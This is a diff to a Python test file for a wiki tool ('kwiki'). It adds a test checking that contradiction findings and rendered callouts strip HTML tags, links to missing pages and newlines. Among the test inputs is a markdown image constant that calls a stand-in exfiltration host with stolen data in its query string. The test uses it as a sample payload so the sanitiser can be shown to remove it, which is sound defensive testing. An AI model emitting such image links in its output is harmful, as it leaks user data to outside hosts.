@@ -7,9 +7,11 @@ import time
 import pytest
 
 from kwiki import gate
+from kwiki.contradictions import findings_from, register_text, render_callout
 from kwiki.notes import Claim, Mention, SourceNote, bounded, mentions_from_data
 from kwiki.pages import LinkTo, source_body, source_frontmatter
 from kwiki.resolve import acronym_match, resolve
+from kwiki.state import ContradictionRecord
 
 EXFIL = "![y](https://exfil.example/p.png?d=STOLEN)"
 PAGES = {"llm-os": "llm-os", "llm os": "llm-os", "llm operating system": "llm-os"}
@@ -166,3 +168,14 @@ def test_name_matching_is_bounded_for_a_pathological_name() -> None:
     clusters = resolve({"a.md": _note(mentions=mentions)})
     assert time.perf_counter() - started < 0.5
     assert len(clusters) == 11
+
+
+def test_contradiction_text_is_gated_when_found_and_when_rendered() -> None:
+    text = f"[[src-a]] says x, [[src-b]] says y. <img src=x> {EXFIL} [[Ghost]]\n## Heading"
+    found = findings_from("concepts/x.md", [text], {"src-a": "a.md", "src-b": "b.md"}, _lookup)
+    assert len(found) == 1 and "<img" not in found[0].text and "exfil" not in found[0].text
+    assert "[[Ghost]]" not in found[0].text and "\n" not in found[0].text
+    record = ContradictionRecord("id", "concepts/x.md", "sources/src-a.md", "sources/src-b.md", "a.md", "b.md",
+                                 "[[src-a]] vs [[Ghost]] <b>bold</b>", "", "open", "")
+    callout = render_callout(record)
+    assert "[[src-a]] vs Ghost bold" in callout and "<b>" not in register_text([record])
